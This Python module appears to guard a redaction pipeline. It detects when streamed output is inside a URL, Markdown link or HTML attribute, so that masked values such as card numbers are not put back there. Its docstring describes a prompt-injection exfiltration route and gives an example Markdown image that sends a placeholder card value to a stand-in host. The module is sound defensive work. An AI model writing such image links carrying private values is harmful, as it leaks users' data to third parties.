r"""Where a text names an address that a program may ask by itself: a URL, the target of a link or a picture, a tag's attribute.

An answer is often shown as Markdown or HTML. `![](https://elsewhere.example/?q=[CARD_1])` is then a picture, and whoever shows it
asks elsewhere.example for the card, without a click. A document can ask a model to write that, and a node can write it unasked:
so what must not reach the node would reach it by way of the reader. No value is put back inside of an address, then, unless the
same address stood, with the same placeholder in that place, in what was sent: its writer has the value already.

A text is read in pieces. Its end is inside of an address

1. behind Markdown's `](` up to the parenthesis that closes it or the line's end, and behind its `]:` up to a blank;
2. in an attribute of a tag of HTML, up to its quotation mark, or a blank where it has none;
3. in a word that has `//`, `www.` or a scheme such as `https:`, up to a blank, a quotation mark or `<`;

of 1 and 2 only once it names a scheme, a host or a path: what stands there alone, or behind `mailto:` and `tel:`, is asked of
nobody.
Where it is in doubt, an address goes on: then a placeholder stays that need not have.
"""

import re
from dataclasses import dataclass, field
from typing import Final

LONGEST: Final = 2_000
"""Characters of an address that are remembered. A longer one is never taken for one that was sent."""

_BEGINS: Final = re.compile(
    r"(?P<link>\][ \t]{0,3}\()|(?P<definition>\][ \t]{0,3}:)|(?P<tag><[a-z])"
    r"|(?P<url>\b[a-z][a-z0-9+.-]{0,15}:[/\\]{2}|[/\\]{2}[^\s/\\]|\b(?:https?|wss?|ftp):|\bwww\.)",
    re.IGNORECASE,
)
_BEFORE: Final = 24
"""So much of a text outside of addresses is kept: what begins one may be divided, and what stands before it counts."""
_URL_ENDS: Final = re.compile(r"""[\s"<>`]""")
_ASKED: Final = re.compile(r"[:/\\&]")
_OF_NOBODY: Final = re.compile(r"[a-z0-9_-]{0,16}=?(?:mailto|tel|sms):[^/\\&]*", re.IGNORECASE)


@dataclass
class Addresses:
    """Reads a text, piece after piece; the pieces do not matter."""

    _kind: str = field(default="", init=False, repr=False)  # of the address that is open, as `_BEGINS` names it
    _said: str = field(default="", init=False, repr=False)  # of it, so far
    _before: str = field(default="", init=False, repr=False)
    _quote: str = field(default="", init=False, repr=False)  # what closes the part that is open
    _depth: int = field(default=0, init=False, repr=False)
    _escaped: bool = field(default=False, init=False, repr=False)

    @property
    def open(self) -> str | None:
        """The address that the text ends in, so far; `None` where it ends in none."""
        if not self._kind or (self._kind != "url" and not _ASKED.search(self._said)):
            return None
        return None if _OF_NOBODY.fullmatch(self._said) else self._said

    @property
    def known(self) -> bool:
        """Whether the whole of `open` is remembered, from where it names its scheme on."""
        return len(self._said) < LONGEST and not self._said.startswith(("/", "\\"))

    def feed(self, text: str) -> None:
        """Take what follows. Takes time in proportion to its length."""
        at = 0
        while at < len(text):
            at = self._inside(text, at) if self._kind else self._outside(text, at)

    def _outside(self, text: str, at: int) -> int:
        joined = self._before + text[at:]
        for found in _BEGINS.finditer(joined):
            if found.end() > len(self._before):
                self._kind = found.lastgroup or ""
                self._said = found[0] if self._kind == "url" else ""
                self._quote, self._depth, self._escaped, end = "", 0, False, found.end() - len(self._before)
                self._before = ""
                return at + end
        self._before = joined[-_BEFORE:]
        return len(text)

    def _inside(self, text: str, at: int) -> int:
        read = {"url": self._url, "tag": self._tag}.get(self._kind, self._link)
        for place in range(at, len(text)):
            if read(text[place]):
                self._kind, self._before = "", text[place] if text[place] in "<]" else ""
                return place + 1
        return len(text)

    def _say(self, character: str) -> None:
        if len(self._said) < LONGEST:
            self._said += character

    def _url(self, character: str) -> bool:
        """Whether it ends the address; here and below."""
        if _URL_ENDS.match(character):
            return True
        self._say(character)
        return False

    def _link(self, character: str) -> bool:
        """A link's target: `<…>`, or up to its own parenthesis; parentheses in it come in pairs, or behind a backslash."""
        if not self._said and not self._quote and character in " \t\n<":
            self._quote = ">" if character == "<" else ""
            return False
        if self._quote:
            ends = character in (self._quote, "\n")
        elif self._kind == "definition":
            ends = character.isspace()
        elif self._escaped:
            ends = False
        else:
            self._depth += (character == "(") - (character == ")")
            ends = self._depth < 0 or character == "\n"
        self._escaped = character == "\\" and not self._escaped
        if not ends:
            self._say(character)
        return ends

    def _tag(self, character: str) -> bool:
        """A tag's attributes, of which the last one is the address."""
        if self._quote:
            if character == self._quote:
                self._quote, self._said = "", ""
            else:
                self._say(character)
        elif character in "<>":
            return True
        elif character in "\"'":
            self._quote, self._said = character, ""
        elif character.isspace():
            self._said = ""
        else:
            self._say(character)
        return False
